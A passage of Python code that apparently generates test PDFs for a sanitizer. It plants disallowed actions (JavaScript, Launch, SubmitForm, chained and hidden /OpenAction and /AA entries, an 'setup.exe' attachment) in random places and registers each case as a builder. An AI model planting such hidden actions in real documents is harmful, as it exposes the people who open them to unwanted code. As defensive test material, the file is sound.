                              Rect=[72, 100, 200, 200], RichMediaContent=Dictionary()))
    template = pdf.make_stream(b"<template/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=template)
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


HIDDEN_TYPES = ["JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "Sound",
                "Movie", "Rendition", "Hide", "SetOCGState", "GoTo3DView", "Trans",
                "RichMediaExecute", "ResetForm", "Frobnicate"]
HIDDEN_KEYS = ["/A", "/PA", "/OpenAction", "/Next", "/AA", "/Private"]


def hidden_actions(seed: int) -> bytes:
    """Disallowed actions (chains, direct or indirect) put into random dictionaries."""
    rng = random.Random(seed)
    pdf = base()
    if rng.random() < 0.3:
        pdf.Root.AcroForm = Dictionary(Fields=Array([
            pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("f")))]))

    def action(depth: int = 0) -> pikepdf.Object:
        typ = rng.choice(HIDDEN_TYPES)
        act = Dictionary(S=Name("/" + typ))
        if typ == "JavaScript":
            act.JS = String("x()")
        if depth < 3 and rng.random() < 0.3:
            act.Next = action(depth + 1) if rng.random() < 0.5 else \
                Array([goto(pdf, 0), action(depth + 1)])
        return pdf.make_indirect(act) if rng.random() < 0.5 else act

    for _ in range(rng.randint(1, 4)):
        target = rng.choice([o for o in pdf.objects if isinstance(o, Dictionary)])
        for _ in range(rng.randint(0, 2)):
            inner = [target.get(k) for k in sorted(target.keys())]
            inner = [v for v in inner if isinstance(v, Dictionary) and not v.is_indirect]
            if inner:
                target = rng.choice(inner)
        key = rng.choice(HIDDEN_KEYS)
        if key == "/AA":
            target[key] = Dictionary({"/" + rng.choice(["O", "C", "K", "E", "WC"]): action()})
        else:
            target[key] = Array([action()]) if rng.random() < 0.1 else action()
    return save(pdf, object_stream_mode=rng.choice(list(pikepdf.ObjectStreamMode)))


BUILDERS: dict[str, Callable[[], bytes]] = {
    "plain": plain,
    "portfolio_navigator": portfolio_navigator,
    "associated_files_tagged": associated_files_tagged,
    "open_action_js": open_action_js,
    "catalog_aa": catalog_aa,
    "page_aa": page_aa,
    "annot_a_js": annot_a_js,
    "annot_aa": annot_aa,
    "form_fields": form_fields,
    "next_chain_dict": next_chain_dict,
    "next_chain_array": next_chain_array,
    "outline_js": outline_js,
    "names_js": names_js,
    "names_tree_kids": names_tree_kids,
    "named_actions": named_actions,
    "uri_schemes": uri_schemes,
    "uri_open_action": uri_open_action,
    "hidden_js": hidden_js,
    "font_matrix": font_matrix,
    "external_stream": external_stream,
    "embedded_files": embedded_files,
    "file_attachment_txt": file_attachment(),
    "file_attachment_exe": file_attachment("setup.exe", EXE),
    "shared_attachment": shared_attachment,
    "outside_attachment": outside_attachment,
    "junk_embedded_entry": junk_embedded_entry,
    "associated_file": associated_file,
    "xfa": xfa,
    "media_annots": media_annots,
    "hex_escaped": hex_escaped,
    "object_stream_js": object_stream_js,
    "incremental_js": incremental_js,
    "earlier_revision_js": earlier_revision_js,
    "orphan_js": orphan_js,
    "encrypted_owner": encrypted_owner,
    "combination": combination,
    **{f"action_{k}": action_link(k) for k in ACTION_PARAMS},
}
